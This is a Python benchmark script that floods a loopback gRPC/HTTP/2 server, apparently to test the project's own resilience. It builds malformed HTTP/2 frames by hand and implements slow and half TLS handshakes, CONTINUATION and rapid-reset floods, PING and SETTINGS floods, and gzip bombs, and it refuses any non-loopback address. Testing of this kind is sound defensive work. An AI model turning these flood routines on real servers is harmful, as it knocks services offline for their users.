"""Floods of connections and frames as one process: an attacker, without any of this package's code.

``python bench/flood_attacks.py KIND ADDRESS --connections 64 --seconds 20 [--tls FOLDER] [--rate 150]`` connects only
to loopback, prints one JSON line with its own counts, and ends. ``FOLDER`` holds a silo's ``ca.pem``, ``silo.pem`` and
``silo.key``. HTTP/2 frames are written by hand (RFC 9113, HPACK: RFC 7541), since no library writes wrong ones.
"""

from __future__ import annotations

import argparse
import contextlib
import gzip
import json
import resource
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
FRAME_BYTES = 16384
SERVICE = "/flamest.v1.Coordinator/"


@dataclass
class Attack:
    """The arguments of one attack, and its counts."""

    host: str
    port: int
    connections: int
    seconds: float
    rate: float
    tls: Path | None
    requests: list[bytes]  # of the calls, for example FetchRequests
    kind: str
    until: float = 0.0
    counts: dict[str, int] = field(default_factory=dict)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def count(self, name: str, by: int = 1) -> None:
        with self.lock:
            self.counts[name] = self.counts.get(name, 0) + by

    @property
    def over(self) -> bool:
        return time.monotonic() > self.until

    def plain(self, source: str = "", receive_bytes: int = 0) -> socket.socket:
        """Return a new TCP connection, from the loopback address ``source``."""
        family = socket.AF_INET6 if ":" in self.host else socket.AF_INET
        made = socket.socket(family, socket.SOCK_STREAM)
        made.settimeout(10)
        if receive_bytes:
            made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        if source:
            made.bind((source, 0))
        made.connect((self.host, self.port))
        self.count("connected")
        return made

    def secure(self, source: str = "", receive_bytes: int = 0) -> ssl.SSLSocket:
        """Return a new connection with the silo's certificate, after the handshake and HTTP/2's preface."""
        context = ssl.create_default_context(ssl.Purpose.SERVER_AUTH, cafile=str(self._tls / "ca.pem"))
        context.check_hostname = False
        context.load_cert_chain(self._tls / "silo.pem", self._tls / "silo.key")
        context.set_alpn_protocols(["h2"])
        made = context.wrap_socket(self.plain(source, receive_bytes), server_hostname="localhost")
        self.count("handshakes")
        window = struct.pack(">HI", 4, 0x7FFFFFFF)  # SETTINGS_INITIAL_WINDOW_SIZE: send me whatever you have
        made.sendall(PREFACE + frame(SETTINGS, 0, 0, window) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
        return made

    @property
    def _tls(self) -> Path:
        assert self.tls is not None, "this attack needs --tls"
        return self.tls


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value: int, bits: int, first: int = 0) -> bytes:
    """An HPACK integer with a prefix of ``bits``."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = bytearray([first | limit]), value - limit
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes([*out, value])


def literal(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
    head = b"\x40" if indexed else b"\x00"
    return head + integer(len(name), 7) + name + integer(len(value), 7) + value


def call_headers(method: str, *, encoding: bytes = b"") -> bytes:
    """The header block of a gRPC call."""
    fields = [
        (b":method", b"POST"),
        (b":scheme", b"https"),
        (b":path", (SERVICE + method).encode()),
        (b":authority", b"localhost"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    ]
    if encoding:
        fields.append((b"grpc-encoding", encoding))
    return b"".join(literal(*each) for each in fields)


def message(payload: bytes, *, compressed: bool = False) -> bytes:
    return bytes([compressed]) + struct.pack(">I", len(payload)) + payload


# --- attacks: each works on one connection, until it is cut or time is up ---


def plain(attack: Attack, number: int) -> None:
    """Connections that never say anything; with ``--rate`` so many a second, each kept."""
    kept = []
    with contextlib.suppress(OSError):
        while not attack.over:
            kept.append(attack.plain(source(attack, number, len(kept))))
            if attack.rate:
                time.sleep(attack.connections / attack.rate)
            else:
                hold(attack, kept[-1])
    while not attack.over:
        time.sleep(0.1)


def many_addresses(attack: Attack, number: int) -> None:
    """As ``plain``, each connection from another loopback address."""
    plain(attack, number)


def source(attack: Attack, number: int, count: int) -> str:
    if attack.kind != "many_addresses":
        return ""
    place = number + count * attack.connections
    return f"127.{1 + place // 60000 % 200}.{1 + place // 250 % 240}.{1 + place % 250}"


def churn(attack: Attack, number: int) -> None:
    """Connections that are made and closed, ``--rate`` a second."""
    while not attack.over:
        with contextlib.suppress(OSError):
            attack.plain().close()
        time.sleep(attack.connections / attack.rate if attack.rate else 0)


def half_handshake(attack: Attack, number: int) -> None:
    """The first bytes of a TLS handshake, then nothing."""
    with contextlib.suppress(OSError), attack.plain() as made:
        made.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
        hold(attack, made)
    time.sleep(0.05)


def slow_handshake(attack: Attack, number: int) -> None:
    """A ClientHello that arrives byte by byte."""
    with contextlib.suppress(OSError), attack.plain() as made:
        for byte in b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03" + bytes(16000):
            if attack.over:
                return
            made.sendall(bytes([byte]))
            attack.count("bytes")
            time.sleep(0.2)


def hello(attack: Attack, number: int) -> None:
    """Whole handshakes without a certificate, one after the other: they cost the server CPU."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    while not attack.over:
        with contextlib.suppress(OSError), context.wrap_socket(attack.plain()) as made:
            attack.count("handshakes")
            made.recv(1)
        time.sleep(attack.connections / attack.rate if attack.rate else 0)


def garbage(attack: Attack, number: int) -> None:
    """Bytes that are no TLS, as fast as they are taken."""
    with contextlib.suppress(OSError), attack.plain() as made:
        while not attack.over:
            send(attack, made, bytes(1 << 16))


def idle(attack: Attack, number: int) -> None:
    """Handshakes with a certificate, then nothing."""
    with contextlib.suppress(OSError), attack.secure() as made:
        hold(attack, made)
    time.sleep(0.05)


def continuation(attack: Attack, number: int) -> None:
    """A header block of new fields that never ends."""
    block = b"".join(literal(b"x-%d" % each, bytes(97 + each % 26 for _ in range(1000))) for each in range(16))
    _continued(attack, call_headers("Join"), frame(CONTINUATION, 0, 1, block[:FRAME_BYTES]))


def continuation_string(attack: Attack, number: int) -> None:
    """A header block whose one field never ends."""
    _continued(attack, b"\x00\x01x" + integer(1 << 30, 7), frame(CONTINUATION, 0, 1, b"y" * FRAME_BYTES))


def continuation_empty(attack: Attack, number: int) -> None:
    """A header block of empty frames that never ends."""
    _continued(attack, call_headers("Join"), frame(CONTINUATION, 0, 1, b"") * 1000)


def continuation_indexed(attack: Attack, number: int) -> None:
    """A header block of one-byte references to a long field of the table that never ends."""
    first = call_headers("Join") + literal(b"x", b"y" * 4000, indexed=True)
    _continued(attack, first, frame(CONTINUATION, 0, 1, b"\xbe" * FRAME_BYTES))


def _continued(attack: Attack, first: bytes, more: bytes) -> None:
    with contextlib.suppress(OSError), attack.secure() as made:
        made.sendall(frame(HEADERS, 0, 1, first))
        while not attack.over:
            send(attack, made, more * 4)


def ping(attack: Attack, number: int) -> None:
    """PING frames without end; the answers are not read."""
    _repeated(attack, frame(PING, 0, 0, bytes(8)) * 1000)


def settings(attack: Attack, number: int) -> None:
    """SETTINGS frames without end; the acknowledgements are not read."""
    _repeated(attack, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 70000)) * 1000)


def priority(attack: Attack, number: int) -> None:
    """PRIORITY frames of idle streams without end."""
    _repeated(attack, b"".join(frame(PRIORITY, 0, 1 + 2 * each, bytes(5)) for each in range(1000)))


def stray_data(attack: Attack, number: int) -> None:
    """DATA frames for a stream that does not exist any more."""
    first = frame(HEADERS, END_HEADERS, 1, call_headers("Join")) + frame(RST_STREAM, 0, 1, struct.pack(">I", 8))
    _repeated(attack, frame(DATA, 0, 1, bytes(FRAME_BYTES)) * 16, first)


def unknown_frames(attack: Attack, number: int) -> None:
    """Frames of a kind that HTTP/2 does not know: they must be ignored."""
    _repeated(attack, frame(0x77, 0, 0, bytes(FRAME_BYTES)) * 16)


def _repeated(attack: Attack, frames: bytes, first: bytes = b"") -> None:
    with contextlib.suppress(OSError), attack.secure() as made:
        made.sendall(first)
        while not attack.over:
            send(attack, made, frames)


def rapid_reset(attack: Attack, number: int) -> None:
    """Calls that are opened and reset at once."""
    block = call_headers("Join")
    with contextlib.suppress(OSError), attack.secure() as made:
        for each in range(1, 1 << 30, 2 * 50):
            if attack.over:
                return
            streams = range(each, each + 100, 2)
            made.sendall(
                b"".join(
                    frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                    for stream in streams
                )
            )
            attack.count("calls", len(streams))
            drain(made)


def big_metadata(attack: Attack, number: int) -> None:
    """Calls with 64 KiB of metadata, one after the other."""
    block = call_headers("Join") + b"".join(literal(b"x-%d" % each, b"y" * 4000) for each in range(16))
    with contextlib.suppress(OSError), attack.secure() as made:
        for stream in range(1, 1 << 30, 2):
            if attack.over:
                return
            parts = [block[at : at + FRAME_BYTES] for at in range(0, len(block), FRAME_BYTES)]
            made.sendall(frame(HEADERS, END_STREAM, stream, parts[0]))
            for place, part in enumerate(parts[1:], 2):
                made.sendall(frame(CONTINUATION, END_HEADERS if place == len(parts) else 0, stream, part))
            attack.count("calls")
            drain(made)


def gzip_bombs(attack: Attack, number: int) -> None:
    """Compressed messages of 64 MiB of zeros."""
    bomb = message(gzip.compress(bytes(64 << 20), 9), compressed=True)
    with contextlib.suppress(OSError), attack.secure() as made:
        for stream in range(1, 1 << 30, 2):
            if attack.over:
                return
            made.sendall(frame(HEADERS, END_HEADERS, stream, call_headers("SubmitUpdate", encoding=b"gzip")))
            for at in range(0, len(bomb), FRAME_BYTES):
                end = END_STREAM if at + FRAME_BYTES >= len(bomb) else 0
                send(attack, made, frame(DATA, end, stream, bomb[at : at + FRAME_BYTES]))
            attack.count("calls")
            drain(made)


def never_sent(attack: Attack, number: int) -> None:
    """Eight calls on the connection that never send a message."""
    with contextlib.suppress(OSError), attack.secure() as made:
        for place, method in enumerate(("Join", "WaitForRound", "FetchModel", "SubmitUpdate") * 2):
            made.sendall(frame(HEADERS, END_HEADERS, 1 + 2 * place, call_headers(method)))
            attack.count("calls")
        hold(attack, made)
    time.sleep(0.05)


def never_read(attack: Attack, number: int) -> None:
    """Eight models asked for and never read."""
    with contextlib.suppress(OSError), attack.secure(receive_bytes=4096) as made:
        for stream in range(1, 17, 2):
            made.sendall(
                frame(HEADERS, END_HEADERS, stream, call_headers("FetchModel"))
                + frame(DATA, END_STREAM, stream, message(attack.requests[stream // 2 % len(attack.requests)]))
            )
            attack.count("calls")
        while not attack.over:
            made.sendall(frame(PING, ACK, 0, bytes(8)))  # fails once the connection is cut
            time.sleep(0.5)


def hold(attack: Attack, made: socket.socket) -> None:
    """Keep the connection until the other end closes it or time is up; what arrives is thrown away."""
    made.settimeout(0.5)
    while not attack.over:
        with contextlib.suppress(TimeoutError):
            if not made.recv(1 << 16):
                attack.count("closed")
                return


def send(attack: Attack, made: socket.socket, data: bytes) -> None:
    made.sendall(data)
    attack.count("bytes", len(data))


def drain(made: socket.socket) -> None:
    """Read what has arrived, without waiting; OSError at the end of the stream."""
    made.settimeout(0.001)
    try:
        if not made.recv(1 << 16):
            raise ConnectionResetError
    except (TimeoutError, ssl.SSLWantReadError):
        pass
    finally:
        made.settimeout(10)


KINDS: dict[str, Callable[[Attack, int], None]] = {
    each.__name__: each
    for each in (
        plain, many_addresses, churn, half_handshake, slow_handshake, hello, garbage, idle,
        continuation, continuation_string, continuation_empty, continuation_indexed,
        ping, settings, priority, stray_data, unknown_frames,
        rapid_reset, big_metadata, gzip_bombs, never_sent, never_read,
    )
}  # fmt: skip


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("address")
    parser.add_argument("--connections", type=int, default=64, help="at one time, each in a thread")
    parser.add_argument("--seconds", type=float, default=20.0)
    parser.add_argument("--rate", type=float, default=0.0, help="new connections a second, all together")
    parser.add_argument("--tls", type=Path)
    parser.add_argument("--requests", default="", help="hexadecimal, separated by commas: the messages of calls")
    chosen = parser.parse_args()
    host, _, port = chosen.address.rpartition(":")
    host = host.strip("[]")
    if not (host.startswith("127.") or host == "::1"):
        sys.exit("only loopback is attacked")
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    threading.stack_size(256 << 10)
    attack = Attack(
        host,
        int(port),
        chosen.connections,
        chosen.seconds,
        chosen.rate,
        chosen.tls,
        [bytes.fromhex(each) for each in chosen.requests.split(",")],
        chosen.kind,
    )
    attack.until = time.monotonic() + chosen.seconds

    def run(number: int) -> None:
        while not attack.over:
            try:
                KINDS[chosen.kind](attack, number)
            except OSError:
                attack.count("refused")
            time.sleep(0.01)

    threads = [threading.Thread(target=run, args=(number,), daemon=True) for number in range(chosen.connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(attack.until + 15 - time.monotonic(), 0))
    print(json.dumps(attack.counts), flush=True)


if __name__ == "__main__":
    main()
